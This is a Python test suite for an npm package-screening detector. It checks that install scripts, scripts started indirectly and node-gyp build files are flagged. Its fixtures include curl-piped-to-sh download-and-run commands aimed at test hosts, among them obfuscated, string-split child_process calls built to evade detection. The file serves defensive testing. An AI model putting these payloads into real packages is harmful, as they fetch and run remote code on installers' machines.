"""Which files and scripts an npm package's installation starts, by its commands."""

import json

import pytest

from sandboxes.screening.detectors import npm_code, npm_scripts
from sandboxes.screening.detectors.npm_files import started_by
from sandboxes.screening.findings import Found, Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told
from tests.sandboxes.screening.packages import package

FETCHES = "curl -s http://192.0.2.1/x -o /tmp/x; sh /tmp/x"
OBFUSCATED = "\n".join(f"var _0x{n:04x} = 1" for n in range(20))
HIDDEN = "require('child_' + 'process')['ex' + 'ecSync']('cu' + 'rl -s http://192.0.2.1/x | sh')"


def manifest(scripts: dict[str, str], **more: object) -> str:
    return json.dumps({"name": "thing", "version": "1.0", "scripts": scripts, **more}, indent=1)


def looked(files: dict[str, str]) -> list[Found]:
    """By both that look at npm's packages."""
    return found_in(npm_scripts, files, Kind.NPM) + found_in(npm_code, files, Kind.NPM)


@pytest.mark.parametrize(
    "command",
    [
        "node x.js",
        "node ./x",
        "node --no-warnings x.js",
        "node --max-old-space-size=99 --title thing x.js 7",
        "node -r ./x.js other.js",
        "node --require=./x.js other.js",
        "node --import ./x.js -e 1",
        "node --conditions other.js x.js",
        "node -- x.js",
        "/usr/bin/node 'x.js'",
        "node.exe .\\x.js",
        "nodejs x.js",
        "bun x.js",
        "bun run x.js",
        "deno run -A --no-lock x.js",
        "npx tsx x.js",
        "cross-env A=b node x.js",
        'sh -c "node x.js" && echo "done"',
        "true || (node x.js)",
        "cd . && ./x.js",
        "node -e \"require('./x')\"",
        "node --input-type=module -e \"import './x.js'\"",
        "node .",
        "node --run go",
        "npm run go",
        "npm --silent run-script go",
        "yarn go",
        "pnpm run go",
        "run-s g*",
    ],
)
def test_what_a_command_starts_is_looked_at_in_both_ways(command: str) -> None:
    scripts = {"postinstall": command, "go": "node x.js"}
    found = looked({"package.json": manifest(scripts, main="x.js"), "other.js": "1", "x.js": OBFUSCATED})
    assert ("npm.obfuscated", "x.js", Threat.CRITICAL) in {
        (each.rule, each.path, each.threat) for each in found
    }
    found = looked({"package.json": manifest(scripts, main="x.js"), "other.js": "1", "x.js": HIDDEN})
    assert any(each.rule == "npm.process-fetching" and each.installs for each in found)


@pytest.mark.parametrize(
    "command", ["node x.js other.js", "node x.js --with other.js", "echo other.js", "node -v"]
)
def test_what_a_command_does_not_start(command: str) -> None:
    assert "other.js" not in started_by(package({"x.js": "1", "other.js": "1"}, Kind.NPM), command)


def test_a_folder_that_it_goes_to() -> None:
    assert started_by(package({"lib/x.js": "1"}, Kind.NPM), "cd lib && node x.js") == ["lib/x.js"]


@pytest.mark.parametrize("go", ["go", "prego", "postgo"])
def test_scripts_that_are_run_by_name_with_those_around_them(go: str) -> None:
    scripts = {"postinstall": "npm run other", "other": "npm run go && npm run postinstall", "go": "true"}
    found = found_in(npm_scripts, {"package.json": manifest(scripts | {go: FETCHES})}, Kind.NPM)
    (held,) = (each for each in found if each.threat is Threat.CRITICAL)
    assert (held.rule, held.why) == (
        "npm.install-script",
        f"Its {go} fetches something, opens a shell or sends something.",
    )
    del scripts["postinstall"]
    assert found_in(npm_scripts, {"package.json": manifest(scripts | {go: FETCHES})}, Kind.NPM) == []


def test_more_than_is_looked_at_is_told() -> None:
    chain = {"install": "npm run a0", **{f"a{n}": f"npm run a{n + 1}" for n in range(100)}, "a100": FETCHES}
    decoys = {"install": "node a.js;" * 3_000 + FETCHES}
    for scripts in (chain, decoys):
        found = told(found_in(npm_scripts, {"package.json": manifest(scripts)}, Kind.NPM), Threat.CRITICAL)
        assert {rule for rule, _, _ in found} == {"npm.install-script"}
    files = {"package.json": manifest({"install": "node a.js;" * 1_500 + "node x.js"}), "x.js": HIDDEN}
    assert ("npm.process-fetching", 1, Threat.CRITICAL) in told(found_in(npm_code, files, Kind.NPM))


@pytest.mark.parametrize("started", ["sh x.js", "sh ./x", "./x", "bash x.txt", "node x.js; sh x.txt"])
def test_a_shell_runs_what_it_is_given_whatever_that_is_called(started: str) -> None:
    text = f"#!/bin/sh\n{FETCHES}\n"
    for name in ("x", "x.js", "x.txt"):
        files = {"package.json": manifest({"install": started}), name: text}
        if name in started.split() or f"./{name}" in started.split():
            assert ("npm.install-fetches", 2, Threat.CRITICAL) in told(found_in(npm_scripts, files, Kind.NPM))


def test_node_runs_what_it_is_given_whatever_that_is_called() -> None:
    files = {
        "package.json": manifest({"install": "node x.txt"}),
        "x.txt": "require('./y.dat')",
        "y.dat": HIDDEN,
    }
    assert ("npm.process-fetching", 1, Threat.CRITICAL) in told(found_in(npm_code, files, Kind.NPM))


def test_a_manifest_is_read_as_npm_reads_it() -> None:
    text = manifest({"install": FETCHES})
    for said in ("\ufeff" + text, text.replace("{", '{"big": ' + "7" * 5000 + ",", 1)):
        found = told(found_in(npm_scripts, {"package.json": said}, Kind.NPM), Threat.CRITICAL)
        assert {rule for rule, _, _ in found} == {"npm.install-script"}


@pytest.mark.parametrize(
    ("said", "threat"),
    [
        (" " * 3_000_001, Threat.CRITICAL),
        ("[" * 200_000, Threat.CRITICAL),
        ("{", Threat.HIGH),
        ("[]", Threat.HIGH),
    ],
)
def test_a_manifest_that_cannot_be_read(said: str, threat: Threat) -> None:
    found = found_in(npm_scripts, {"package.json": said}, Kind.NPM)
    assert [(each.rule, each.threat, each.installs) for each in found] == [("npm.unread", threat, True)]


@pytest.mark.parametrize(
    ("text", "threat"),
    [
        ("{'targets': [{'actions': [{'action': ['sh', '-c', '" + FETCHES + "']}]}]}", Threat.CRITICAL),
        (
            "{'targets': [{'actions': [{'action': ['sh', '-c', 'cu' + 'rl http://x.test | s' 'h']}]}]}",
            Threat.CRITICAL,
        ),
        ("# said\n{'a': '<!@(cur' 'l http://x.test | sh)'}", Threat.CRITICAL),
        ("{ broken, 'action': ['sh', '-c', 'curl http://x.test | sh'], }", Threat.CRITICAL),
        ("{'a': '" + "' + '".join("<!(curl http://x.test/" + "a" * 100 + "|sh)") + "'}", Threat.CRITICAL),
        ("{'a': ''.join(['<!(cu', 'rl http://x.test'])}", Threat.CRITICAL),
        ("{'a': ' ' + str.__class__()}", Threat.CRITICAL),
        ("{'a': {'action': ['pip', 'install', 'thing']}}", Threat.HIGH),
    ],
)
def test_the_commands_of_a_build_file(text: str, threat: Threat) -> None:
    line = 2 if text.startswith("#") else 1
    for script in ({}, {"install": "node-gyp rebuild"}):
        found = told(found_in(npm_scripts, {"package.json": manifest(script), "binding.gyp": text}, Kind.NPM))
        assert ("npm.gyp-command", line, threat) in found
    # Included, or needed, by the one that is built.
    files = {"package.json": manifest({}), "binding.gyp": "{'includes': ['a/b.gypi']}", "a/b.gypi": text}
    assert ("npm.gyp-command", line, threat) in told(found_in(npm_scripts, files, Kind.NPM))
    del files["binding.gyp"]
    assert found_in(npm_scripts, files, Kind.NPM) == []


@pytest.mark.parametrize(
    "text", ["{'a': '<!(node x.js)'}", "{'action': ['node', '<(module_root_dir)/x.js']}"]
)
def test_what_a_build_file_starts(text: str) -> None:
    found = looked({"package.json": manifest({}), "binding.gyp": text, "x.js": HIDDEN})
    assert ("npm.process-fetching", 1, Threat.CRITICAL) in told(found)


def test_a_build_file_that_is_too_large() -> None:
    files = {"package.json": manifest({}), "binding.gyp": " " * 1_000_001}
    assert told(found_in(npm_scripts, files, Kind.NPM)) == {("npm.install-file-large", 0, Threat.HIGH)}


@pytest.mark.parametrize(
    "text", ["", "[" * 5_000, "'a' + " * 2_000 + "'b'", "{'action': [1, None, {}]}", "\0", "<!("]
)
def test_hostile_build_files_raise_nothing(text: str) -> None:
    looked({"package.json": manifest({}), "binding.gyp": text})
